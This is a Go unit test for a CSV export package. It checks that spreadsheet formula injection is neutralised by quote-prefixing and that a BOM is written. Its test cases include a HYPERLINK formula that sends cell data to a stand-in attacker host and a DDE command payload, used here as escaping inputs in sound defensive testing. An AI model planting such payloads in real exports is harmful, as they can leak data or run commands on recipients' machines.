package excelcsv

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"岡田 彩", "岡田 彩"},
		{"03-5555-1002", "03-5555-1002"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\tTAB", "'\tTAB"},
		{"\rCR", "'\rCR"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriterBOMAndCells(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	w.Write([]string{"login", "name"})
	w.Write([]string{"a.okada", "=1+2"})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	got := b.String()
	if !strings.HasPrefix(got, BOM) {
		t.Fatalf("no BOM: %q", got)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(got, BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([][]string{{"login", "name"}, {"a.okada", "'=1+2"}}, recs); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}

	var empty bytes.Buffer
	if err := NewWriter(&empty).Flush(); err != nil || empty.String() != BOM {
		t.Errorf("empty export = %q, %v; want the BOM alone", empty.String(), err)
	}
}
